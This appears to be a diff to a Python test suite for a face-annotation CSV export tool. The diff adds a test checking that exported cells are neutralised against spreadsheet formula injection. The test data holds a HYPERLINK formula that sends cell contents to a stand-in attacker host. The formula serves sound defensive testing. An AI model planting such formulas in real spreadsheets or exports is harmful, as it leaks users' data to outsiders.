@@ -274,3 +274,24 @@ def test_index_records_carry_gallicapix_face_attributes_and_metadata_names(docum
     assert {face.attrib["sexe"] for face in gallicapix_faces} <= {"F", "M", "C", "P"}
     assert {child.tag.split("}")[1] for child in record_xml.find("a:metad", ns)} >= {"ID", "titre", "dateEdition"}
     assert {"ID", "titre", "dateEdition"} <= set(ours)
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_spreadsheets_would_run_as_formulas_are_neutralised(document, tmp_path, prefix):
+    page = document.pages.get(order=1)
+    page.__class__.objects.filter(pk=page.pk).update(canvas_id=prefix + FORMULA[1:])
+    document.__class__.objects.filter(pk=document.pk).update(label=prefix + FORMULA[1:])
+    export(ExportKind.CSV, document, tmp_path / "faces.csv")
+    export(ExportKind.INDEX, document, tmp_path / "index.csv", index_format="csv")
+
+    faces = list(csv.DictReader((tmp_path / "faces.csv").open(newline="")))
+    index = list(csv.DictReader((tmp_path / "index.csv").open(newline="")))
+
+    assert {row["canvas"] for row in faces if row["page"] == str(page.pk)} == {"'" + prefix + FORMULA[1:]}
+    assert {row["titre"] for row in index} == {"'" + prefix + FORMULA[1:]}
+    assert {row["canvas"] for row in index if row["page"] == "1"} == {"'" + prefix + FORMULA[1:]}
+    woman = next(row for row in faces if row["gender"] == "female")
+    assert (woman["x"], woman["age"], woman["source"]) == ("100", "34.0", "curator"), "numbers and plain text as-is"
